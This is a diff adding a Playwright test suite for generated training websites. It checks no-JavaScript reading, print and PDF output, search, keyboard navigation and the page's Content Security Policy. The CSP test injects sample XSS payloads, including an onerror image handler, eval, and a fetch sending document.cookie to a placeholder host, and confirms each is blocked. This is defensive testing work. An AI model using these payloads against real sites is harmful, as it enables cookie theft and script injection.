@@ -1,0 +1,192 @@
+"""The finished sites as somebody reads them: without scripts, by keyboard, in the search, on paper."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+from browsing import NAVIGATION, TRAINEE, opened, served
+from immerse.model.edition import View
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+from pypdfium2 import PdfDocument
+from site_fixtures import Sites, edition
+
+pytestmark = pytest.mark.browser
+
+
+@pytest.fixture
+def plain(browser: Browser) -> Iterator[BrowserContext]:
+    """A browser without JavaScript."""
+    context = browser.new_context(java_script_enabled=False)
+    yield context
+    context.close()
+
+
+def test_a_lesson_reads_without_javascript(plain: BrowserContext, host: str) -> None:
+    page = opened(plain, f"{host}{TRAINEE}learn/tri/tri-l2/")
+    expect(page.get_by_role("heading", level=1)).to_contain_text("Priority and clocks")
+    expect(page.get_by_text("so all four priorities run on the wall clock")).to_be_visible()
+
+
+def test_an_answer_unfolds_without_javascript(plain: BrowserContext, host: str) -> None:
+    page = opened(plain, f"{host}{TRAINEE}learn/tri/checks/")
+    question = page.locator(".im-check").first
+    answer = question.locator("details > :not(summary)").first
+    expect(answer).to_be_hidden()
+    question.locator("summary").click()
+    expect(answer).to_be_visible()
+    assert page.locator("button:visible:not([hidden])").count() == 0
+
+
+@pytest.mark.parametrize(("list_", "items"), [("progress", 43), ("graduation", 30)])
+def test_a_checklist_is_boxes_and_labels_without_javascript_on_the_screen_and_on_paper(
+    plain: BrowserContext, host: str, list_: str, items: int
+) -> None:
+    page = opened(plain, f"{host}{TRAINEE}checklist/{list_}/")
+    boxes = page.locator(".im-item input[type=checkbox]:visible")
+    assert boxes.count() == page.locator(".im-item label:visible").count() == items
+    labelled = "boxes => boxes.filter(box => box.labels.length === 1).length"
+    assert boxes.evaluate_all(labelled) == items
+    expect(page.locator("#checklist-notice")).to_contain_text("without JavaScript")
+    assert page.locator("button:visible", has_text="Save").count() == 0
+    assert_prints_boxes(page)
+
+
+@pytest.mark.parametrize("list_", ["progress", "graduation"])
+def test_a_checklist_prints_its_boxes_and_nothing_to_click(context: BrowserContext, host: str, list_: str) -> None:
+    assert_prints_boxes(opened(context, f"{host}{TRAINEE}checklist/{list_}/"))
+
+
+def assert_prints_boxes(page: Page) -> None:
+    page.emulate_media(media="print")
+    box = page.locator(".im-item input[type=checkbox]").first.bounding_box()
+    assert box and box["width"] >= 8
+    assert page.locator("button:visible").count() == 0
+    assert [name for name in NAVIGATION if page.locator(f"{name}:visible").count()] == []
+
+
+def test_a_printed_page_of_questions_holds_the_answers_and_no_menu(context: BrowserContext, host: str) -> None:
+    page = opened(context, f"{host}{TRAINEE}learn/tri/checks/")
+    hidden = page.locator(".im-check details p").first.text_content() or ""
+    paper = PdfDocument(page.pdf(format="A4"))
+    text = " ".join(" ".join(sheet.get_textpage().get_text_bounded() for sheet in paper).split())
+    assert " ".join(hidden.split())[:40] in text
+    assert "What changed" not in text
+
+
+def test_paper_shows_what_is_folded_and_leaves_out_what_is_clicked(context: BrowserContext, host: str) -> None:
+    page = opened(context, f"{host}{TRAINEE}learn/tri/checks/")
+    page.emulate_media(media="print")
+    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
+    assert page.locator(".im-key > :not(summary)").first.is_visible()
+    assert page.locator("button:visible").count() == 0
+    assert page.locator(".md-header").is_hidden()
+    page.evaluate("window.dispatchEvent(new Event('afterprint'))")
+    assert page.locator("details[open]").count() == 0
+
+
+def test_search_finds_a_hard_trigger(context: BrowserContext, host: str) -> None:
+    page = opened(context, f"{host}{TRAINEE}")
+    page.keyboard.press("/")
+    page.keyboard.type("hard trigger")
+    found = page.locator(".md-search-result__link")
+    expect(found.first).to_be_visible()
+    addresses = [found.nth(index).get_attribute("href") or "" for index in range(found.count())]
+    assert any("/learn/tri/tri-l3/" in address for address in addresses)
+    found.first.click()
+    expect(page.get_by_role("heading", level=1)).to_be_visible()
+
+
+def test_an_answer_is_judged_and_its_reason_opens(context: BrowserContext, host: str) -> None:
+    page = opened(context, f"{host}{TRAINEE}learn/tri/checks/")
+    question = page.locator(".im-checks .im-check").first
+    right = question.get_attribute("data-answer") or ""
+    judged = question.get_by_role("button", name="Check question 1")
+    assert judged.is_disabled()
+    question.locator(f"input:not([value='{right}'])").first.check()
+    judged.click()
+    expect(question.locator(".im-verdict")).to_contain_text("Not this one")
+    expect(question.locator("details > :not(summary)").first).to_be_visible()
+    assert question.locator("details").get_attribute("open") is not None
+    question.locator(f"input[value='{right}']").check()
+    judged.click()
+    expect(question.locator(".im-verdict")).to_have_text("Right.")
+    assert "0 right at the first try" in page.locator(".im-checks > .im-verdict").inner_text()
+
+
+INJECTIONS = {
+    "script-src-attr": 'box.innerHTML = \'<img src="x" onerror="window.hit = true">\'',
+    "script-src-elem": "const made = document.createElement('script'); made.text = 'hit = true'; box.append(made)",
+    "script-src": "window.eval('window.hit = true')",
+    "img-src": "const made = new Image(); made.src = 'http://other.invalid/x.png'; box.append(made)",
+    "connect-src": "fetch('http://other.invalid/?' + document.cookie).catch(() => 0)",
+    "style-src-attr": "box.innerHTML = '<p style=\"color: red\">x</p>'",
+}
+"""Directive of the policy -> what it must stop."""
+
+# In a timer, because the console may evaluate what the page may not.
+INJECT = """() => new Promise(done => {
+  document.addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
+  const box = document.body.appendChild(document.createElement("div"));
+  setTimeout(() => { INJECTION; });
+  setTimeout(() => done("nothing was stopped"), 5000);
+})"""
+
+
+def test_the_pages_policy_stops_what_was_injected(context: BrowserContext, host: str) -> None:
+    page = context.new_page()
+    page.goto(f"{host}{TRAINEE}about/")
+    stopped = {name: page.evaluate(INJECT.replace("INJECTION", code)) for name, code in INJECTIONS.items()}
+    assert stopped == {name: name for name in INJECTIONS}
+    assert page.evaluate("window.hit") is None
+
+
+def test_a_keyboard_skips_to_the_content_and_ticks_by_space(context: BrowserContext, host: str) -> None:
+    page = opened(context, f"{host}{TRAINEE}checklist/progress/")
+    box = page.locator(".im-item input[type=checkbox]").first
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.matches('.md-skip')")
+    expect(page.locator(".md-skip")).to_be_visible()
+    page.keyboard.press("Enter")
+    page.wait_for_function("location.hash !== ''")
+    box.focus()
+    page.keyboard.press("Space")
+    assert box.is_checked()
+    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement !== document.body")
+
+
+def test_a_keyboard_opens_the_menu_on_a_narrow_screen(browser: Browser, host: str) -> None:
+    context = browser.new_context(viewport={"width": 360, "height": 700})
+    page = opened(context, f"{host}{TRAINEE}learn/tri/")
+    menu = page.get_by_role("button", name="Menu")
+    menu.focus()
+    page.keyboard.press("Enter")
+    assert menu.get_attribute("aria-expanded") == "true"
+    assert page.evaluate("document.getElementById('__drawer').checked")
+    context.close()
+
+
+def test_an_emergency_playbook_begins_with_one_sheet_for_the_wall(context: BrowserContext, demo_sites: Sites) -> None:
+    emergencies = [
+        playbook for playbook in edition("calder-rowe", View.TRAINEE).programme.playbooks if playbook.emergency
+    ]
+    assert emergencies
+    with served(demo_sites.folder("calder-rowe")) as address:
+        for playbook in emergencies:
+            page = opened(context, f"{address}playbooks/{playbook.id.lower()}/")
+            for paper in ("A4", "Letter"):
+                with PdfDocument(page.pdf(format=paper)) as printed:
+                    first, second = (text_of(printed, number) for number in (0, 1))
+                assert "in full on the next page" in first, (playbook.id, paper)
+                assert second.lstrip().startswith("Steps"), (playbook.id, paper)
+
+
+def text_of(printed: PdfDocument, number: int) -> str:
+    sheet = printed[number]
+    words = sheet.get_textpage()
+    text: str = words.get_text_range()
+    words.close()
+    sheet.close()
+    return text
